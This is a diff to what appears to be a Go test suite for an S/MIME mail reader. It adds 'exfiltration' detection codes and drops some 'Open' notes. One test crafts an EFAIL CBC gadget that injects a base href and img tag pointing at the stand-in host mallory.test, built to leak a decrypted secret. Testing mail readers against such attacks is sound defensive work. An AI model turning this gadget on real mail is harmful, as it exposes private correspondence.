@@ -78,7 +78,7 @@ func encryptionCases() []Case {
 			A CBC ciphertext was altered so that it decrypts to markup which its maker never wrote: the address of an image, with
 			the secret as a part of it (the CBC gadget of EFAIL). All that Mallory had to know is how a mail begins. CBC notices nothing, so that it is
 			shown as not authenticated; nothing is loaded from anywhere.`,
-			Expectation{Verdict: "unsigned", Encryption: "decrypted", Codes: []string{"not-authenticated"}, NotScreen: []string{"PASSED"}},
+			Expectation{Verdict: "unsigned", Encryption: "decrypted", Codes: []string{"not-authenticated", "exfiltration"}, NotScreen: []string{"PASSED"}},
 			func(l *Lab) string {
 				return l.mail(cbc(secretPage, l.BobRSA).gadget("Content-Type: te", 2, `<base href="http`, `://mallory.test/`, `"><img     alt="`, `" src="         `).entity(), malloryFrom)
 			}},
@@ -93,7 +93,7 @@ func encryptionCases() []Case {
 			A message that Alice signed and then encrypted with CBC was altered in the same way. The signature inside is over other
 			octets now. A reader that decrypts, shows, and verifies afterwards has lost the secret before. It is failed, and nothing was
 			loaded.`,
-			Expectation{Verdict: "failed", Encryption: "decrypted", Codes: []string{"digest-mismatch", "not-authenticated"}, NotScreen: []string{"PASSED"}},
+			Expectation{Verdict: "failed", Encryption: "decrypted", Codes: []string{"digest-mismatch", "not-authenticated", "exfiltration"}, NotScreen: []string{"PASSED"}},
 			func(l *Lab) string {
 				signed := l.sign(secretPage, l.Alice)
 				behind := (strings.Index(signed, "<p>Dear Bob") + 16) / 16
@@ -180,8 +180,7 @@ func encryptionCases() []Case {
 		{"421-two-keys", `
 			Two RecipientInfos name Bob's certificate and hand over two keys, of which the second opens the message. The first makes
 			noise of it. All that match are to be tried (RFC 5652 section 6.2), and noise is never shown.`,
-			Expectation{Verdict: "unsigned", Encryption: "decrypted", Text: []string{"4711"}, Screen: []string{"to you alone"},
-				Open: "the second RecipientInfo for one's own certificate is counted as somebody else's"},
+			Expectation{Verdict: "unsigned", Encryption: "decrypted", Text: []string{"4711"}, Screen: []string{"to you alone"}},
 			func(l *Lab) string {
 				e := gcm(text(secret), l.BobRSA, 16)
 				e.recipients = append([][]byte{transport(randomKey(32), l.BobRSA)}, e.recipients...)
@@ -272,8 +271,7 @@ func wrappingCases() []Case {
 		{"446-triple-wrapped-by-a-gateway", `
 			The outer signature of a triple wrapped message is of Mallory, whose certificate is good, as a gateway signs what passes
 			through it. The inner one is Alice's and decides who sent it. It passes as Alice.`,
-			Expectation{Verdict: "passed", Encryption: "decrypted", From: "alice@example.test", Text: []string{"4711"}, Screen: []string{"PASSED        signed by Alice Adams"},
-				Open: "the outermost signer stands beside the verdict, and not the judged one"},
+			Expectation{Verdict: "passed", Encryption: "decrypted", From: "alice@example.test", Text: []string{"4711"}, Screen: []string{"PASSED        signed by Alice Adams"}},
 			func(l *Lab) string { return l.mail(l.sign(l.sealed(l.sign(text(secret), l.Alice)), l.Mallory)) }},
 		{"447-surreptitious-forwarding", `
 			Alice wrote to Mallory, signed with a protected header, and encrypted. Mallory decrypted it and encrypted it anew to Bob,
@@ -300,7 +298,7 @@ func wrappingCases() []Case {
 			outside. RFC 9788 section 4.4.2 and 4.4.3: without a signature that is valid and bound, the user is warned and shown the
 			outer one.`,
 			Expectation{Verdict: "unsigned", Encryption: "decrypted", Codes: []string{"from-mismatch"}, From: "mallory@example.test", Screen: []string{"mallory@example.test   (not protected)"},
-				NotScreen: []string{"PASSED"}, Open: "the outer From is shown as if it was protected"},
+				NotScreen: []string{"PASSED"}},
 			func(l *Lab) string {
 				return l.mail(l.sealed(protected("cipher", text(secret), append(l.usualProtected(), "HP-Outer: From: Alice Adams <alice@example.test>", "HP-Outer: To: bob@example.test", "HP-Outer: Subject: [...]")...)), malloryFrom)
 			}},
